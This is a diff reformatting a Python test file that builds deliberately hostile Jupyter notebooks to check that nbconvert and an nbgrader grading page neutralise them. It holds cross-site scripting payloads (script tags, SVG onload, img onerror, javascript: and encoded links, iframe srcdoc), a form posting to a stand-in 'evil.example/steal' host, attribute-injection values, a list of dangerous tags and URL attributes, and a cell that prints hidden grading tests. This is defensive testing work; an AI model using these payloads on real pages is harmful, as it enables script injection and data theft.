@@ -17,14 +17,15 @@ from pathlib import Path
 import nbformat
 import pandas as pd
 from nbconvert import HTMLExporter
-from nbformat.v4 import (new_code_cell, new_markdown_cell, new_notebook, new_output,
-                         new_raw_cell)
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
 
 # A 1x1 PNG.
-PNG = base64.b64encode(bytes.fromhex(
-    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
-    "0000000d4944415478da63f8cf80000003010100c9fe92ef0000000049454e44ae426082"
-)).decode("ascii")
+PNG = base64.b64encode(
+    bytes.fromhex(
+        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
+        "0000000d4944415478da63f8cf80000003010100c9fe92ef0000000049454e44ae426082"
+    )
+).decode("ascii")
 TABLE_CANARY = 424242  # a value in the DataFrame whose table must survive
 RAN = re.compile(r'data-ran-([\w-]+)="yes"')
 
@@ -51,50 +52,79 @@ def hostile_outputs() -> list:
         '<form action="https://evil.example/steal"><input name="p"></form>'
         f'<object data="data:text/html,&lt;script&gt;{js("html-object")}&lt;/script&gt;"></object>'
     )
-    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js("svg-output")}">'
-           f'<script>{js("svg-script")}</script></svg>')
+    svg = (
+        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js("svg-output")}">'
+        f"<script>{js('svg-script')}</script></svg>"
+    )
     return [
         _display({"text/html": html_payload, "text/plain": "<HTML object>"}),
-        _display({"application/javascript": js("js-output"),
-                  "text/plain": "<IPython.core.display.Javascript object>"}),
+        _display(
+            {
+                "application/javascript": js("js-output"),
+                "text/plain": "<IPython.core.display.Javascript object>",
+            }
+        ),
         _display({"image/svg+xml": svg, "text/plain": "<IPython.core.display.SVG object>"}),
         _display({"image/svg+xml": svg}),
-        _display({"application/vnd.jupyter.widget-view+json": {"model_id": "x"},
-                  "text/plain": "IntSlider(value=0)"}),
-        _display({"text/markdown": f"<script>{js('md-output')}</script> **bold**",
-                  "text/plain": "<Markdown object>"}),
-        _display({"image/png": PNG, "text/plain": "<Figure>"},
-                 {"image/png": {"width": f"1 onload={js('png-width')}"}}),
-        new_output("execute_result", execution_count=3,
-                   data={"text/html": frame._repr_html_(), "text/plain": repr(frame)}),
+        _display(
+            {
+                "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
+                "text/plain": "IntSlider(value=0)",
+            }
+        ),
+        _display(
+            {
+                "text/markdown": f"<script>{js('md-output')}</script> **bold**",
+                "text/plain": "<Markdown object>",
+            }
+        ),
+        _display(
+            {"image/png": PNG, "text/plain": "<Figure>"},
+            {"image/png": {"width": f"1 onload={js('png-width')}"}},
+        ),
+        new_output(
+            "execute_result",
+            execution_count=3,
+            data={"text/html": frame._repr_html_(), "text/plain": repr(frame)},
+        ),
         new_output("stream", name="stdout", text="<script>not markup: printed text</script>\n"),
     ]
 
 
 def hostile_markdown() -> str:
     """A written answer with raw HTML, script and ``javascript:`` links of every kind."""
-    return "\n\n".join([
-        "My answer: the **forest** isolates evil processes.",
-        f"<script>{js('md-script')}</script>",
-        f'An image <img src=x onerror="{js("md-onerror")}"> inline.',
-        f'<a href="javascript:{js("md-html-link")}">html link</a>',
-        f"[markdown link](javascript:{js('md-link')})",
-        f"[double-encoded link](&amp;#x6a;avascript:{js('md-encoded-link')})",
-        f'<iframe srcdoc="&lt;script&gt;parent.{js("md-iframe")}&lt;/script&gt;"></iframe>',
-        f'<svg onload="{js("md-svg")}"></svg>',
-        "A plot I drew: ![my plot](attachment:plot.png)",
-    ])
+    return "\n\n".join(
+        [
+            "My answer: the **forest** isolates evil processes.",
+            f"<script>{js('md-script')}</script>",
+            f'An image <img src=x onerror="{js("md-onerror")}"> inline.',
+            f'<a href="javascript:{js("md-html-link")}">html link</a>',
+            f"[markdown link](javascript:{js('md-link')})",
+            f"[double-encoded link](&amp;#x6a;avascript:{js('md-encoded-link')})",
+            f'<iframe srcdoc="&lt;script&gt;parent.{js("md-iframe")}&lt;/script&gt;"></iframe>',
+            f'<svg onload="{js("md-svg")}"></svg>',
+            "A plot I drew: ![my plot](attachment:plot.png)",
+        ]
+    )
 
 
 def hostile_notebook() -> nbformat.NotebookNode:
     """A graded-looking notebook whose outputs, answer, raw cell and metadata are hostile."""
     code = new_code_cell("show_everything()", execution_count=3, outputs=hostile_outputs())
-    answer = new_markdown_cell(hostile_markdown(), attachments={
-        "plot.png": {"image/png": PNG, "image/svg+xml": f"<svg onload=\"{js('attachment')}\"/>"},
-    })
-    answer.metadata["nbgrader"] = {"grade": True, "solution": True, "locked": False,
-                                   "grade_id": "written_answer", "points": 1,
-                                   "schema_version": 3}
+    answer = new_markdown_cell(
+        hostile_markdown(),
+        attachments={
+            "plot.png": {"image/png": PNG, "image/svg+xml": f'<svg onload="{js("attachment")}"/>'},
+        },
+    )
+    answer.metadata["nbgrader"] = {
+        "grade": True,
+        "solution": True,
+        "locked": False,
+        "grade_id": "written_answer",
+        "points": 1,
+        "schema_version": 3,
+    }
     raw = new_raw_cell(f"<script>{js('raw-cell')}</script>", metadata={"raw_mimetype": "text/html"})
     nb = new_notebook(cells=[code, answer, raw])
     nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
@@ -104,10 +134,32 @@ def hostile_notebook() -> nbformat.NotebookNode:
 
 # ---- scanning rendered pages ---------------------------------------------------------------
 
-URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background",
-                  "xlink:href", "srcdoc", "codebase", "cite"}
-ACTIVE_TAGS = {"iframe", "object", "embed", "form", "frame", "frameset", "applet", "base",
-               "svg", "math", "link"}
+URL_ATTRIBUTES = {
+    "href",
+    "src",
+    "action",
+    "formaction",
+    "data",
+    "poster",
+    "background",
+    "xlink:href",
+    "srcdoc",
+    "codebase",
+    "cite",
+}
+ACTIVE_TAGS = {
+    "iframe",
+    "object",
+    "embed",
+    "form",
+    "frame",
+    "frameset",
+    "applet",
+    "base",
+    "svg",
+    "math",
+    "link",
+}
 RASTER_DATA = re.compile(r"data:image/(png|jpeg|gif|webp);base64,", re.IGNORECASE)
 
 
@@ -169,8 +221,11 @@ def _bad_url(tag: str, name: str, value: str) -> bool:
 
 def unknown_scripts(scan: PageScan, mathjax_url: str) -> list[dict]:
     """Script elements other than nbconvert's own MathJax loader and MathJax config."""
-    return [s for s in scan.scripts
-            if s.get("src") != mathjax_url and s.get("type") != "text/x-mathjax-config"]
+    return [
+        s
+        for s in scan.scripts
+        if s.get("src") != mathjax_url and s.get("type") != "text/x-mathjax-config"
+    ]
 
 
 # ---- a tiny nbgrader course holding hostile autograded notebooks ---------------------------
@@ -190,13 +245,25 @@ c.GenerateFeedback.preprocessors = [
 ]
 c.HTMLExporter.preprocessors = []
 """
-TEST_CELL = "\n".join(['"""f adds one."""', VISIBLE_TEST, "### BEGIN HIDDEN TESTS",
-                       *HIDDEN_LINES, "### END HIDDEN TESTS"])
+TEST_CELL = "\n".join(
+    [
+        '"""f adds one."""',
+        VISIBLE_TEST,
+        "### BEGIN HIDDEN TESTS",
+        *HIDDEN_LINES,
+        "### END HIDDEN TESTS",
+    ]
+)
 
 
 def _meta(grade_id: str, *, grade=False, solution=False, locked=False, points=None) -> dict:
-    meta = {"grade": grade, "solution": solution, "locked": locked, "grade_id": grade_id,
-            "schema_version": 3}
+    meta = {
+        "grade": grade,
+        "solution": solution,
+        "locked": locked,
+        "grade_id": grade_id,
+        "schema_version": 3,
+    }
     if points is not None:
         meta["points"] = points
     return {"nbgrader": meta}
@@ -204,15 +271,26 @@ def _meta(grade_id: str, *, grade=False, solution=False, locked=False, points=No
 
 def tiny_source_notebook() -> nbformat.NotebookNode:
     """An assignment of three graded cells: a function, its test (with hidden tests), an essay."""
-    return new_notebook(cells=[
-        new_markdown_cell("# Tiny\nWrite `f`, then say why.", metadata=_meta("intro", locked=True)),
-        new_code_cell("def f(x):\n    ### BEGIN SOLUTION\n    return x + 1\n    ### END SOLUTION",
-                      metadata=_meta("answer_f", solution=True)),
-        new_code_cell(TEST_CELL, metadata=_meta("f_adds_one", grade=True, locked=True, points=1)),
-        new_markdown_cell("YOUR ANSWER HERE",
-                          metadata=_meta("why", grade=True, solution=True, points=1)),
-    ], metadata={"kernelspec": {"name": "python3", "display_name": "Python 3",
-                                "language": "python"}})
+    return new_notebook(
+        cells=[
+            new_markdown_cell(
+                "# Tiny\nWrite `f`, then say why.", metadata=_meta("intro", locked=True)
+            ),
+            new_code_cell(
+                "def f(x):\n    ### BEGIN SOLUTION\n    return x + 1\n    ### END SOLUTION",
+                metadata=_meta("answer_f", solution=True),
+            ),
+            new_code_cell(
+                TEST_CELL, metadata=_meta("f_adds_one", grade=True, locked=True, points=1)
+            ),
+            new_markdown_cell(
+                "YOUR ANSWER HERE", metadata=_meta("why", grade=True, solution=True, points=1)
+            ),
+        ],
+        metadata={
+            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}
+        },
+    )
 
 
 def autograded_notebook(prints_hidden_tests: bool = False) -> nbformat.NotebookNode:
@@ -225,17 +303,27 @@ def autograded_notebook(prints_hidden_tests: bool = False) -> nbformat.NotebookN
     nb.metadata.update(hostile_notebook().metadata)
     nb.cells[1].source = "def f(x):\n    return abs(x) + 1\nshow_everything()"
     nb.cells[1].outputs = hostile_outputs()
-    nb.cells[2].outputs = [new_output(
-        "error", ename="AssertionError", evalue="f should handle negative numbers",
-        traceback=["AssertionError  Traceback (most recent call last)",
-                   f"----> 4 {HIDDEN_LINES[0]}",
-                   "AssertionError: f should handle negative numbers"],
-    )]
+    nb.cells[2].outputs = [
+        new_output(
+            "error",
+            ename="AssertionError",
+            evalue="f should handle negative numbers",
+            traceback=[
+                "AssertionError  Traceback (most recent call last)",
+                f"----> 4 {HIDDEN_LINES[0]}",
+                "AssertionError: f should handle negative numbers",
+            ],
+        )
+    ]
     answer = hostile_notebook().cells[1]
     nb.cells[3].source, nb.cells[3].attachments = answer.source, answer.attachments
     if prints_hidden_tests:
-        nb.cells.append(new_code_cell("print(_ih[-2])", outputs=[
-            new_output("stream", name="stdout", text=TEST_CELL + "\n")]))
+        nb.cells.append(
+            new_code_cell(
+                "print(_ih[-2])",
+                outputs=[new_output("stream", name="stdout", text=TEST_CELL + "\n")],
+            )
+        )
     return nb
 
 
@@ -288,14 +376,31 @@ def formgrader_exporter(root: Path) -> HTMLExporter:
     from beth_course.course import Course
 
     config = Course(Path(root), ASSIGNMENT, ASSIGNMENT).config()
-    config.merge(Config({"HTMLExporter": {
-        "template_name": "formgrade", "extra_template_basedirs": [handlers.template_path]}}))
+    config.merge(
+        Config(
+            {
+                "HTMLExporter": {
+                    "template_name": "formgrade",
+                    "extra_template_basedirs": [handlers.template_path],
+                }
+            }
+        )
+    )
     return HTMLExporter(config=config)
 
 
 def formgrader_html(exporter: HTMLExporter, notebook) -> str:
     """The page formgrader serves for ``notebook`` (its resources filled with stand-ins)."""
-    resources = {"assignment_id": ASSIGNMENT, "notebook_id": ASSIGNMENT, "submission_id": "s",
-                 "index": 0, "total": 1, "base_url": "", "student": "ada", "last_name": None,
-                 "first_name": None, "notebook_path": "/x"}
+    resources = {
+        "assignment_id": ASSIGNMENT,
+        "notebook_id": ASSIGNMENT,
+        "submission_id": "s",
+        "index": 0,
+        "total": 1,
+        "base_url": "",
+        "student": "ada",
+        "last_name": None,
+        "first_name": None,
+        "notebook_path": "/x",
+    }
     return exporter.from_notebook_node(notebook, resources=resources)[0]
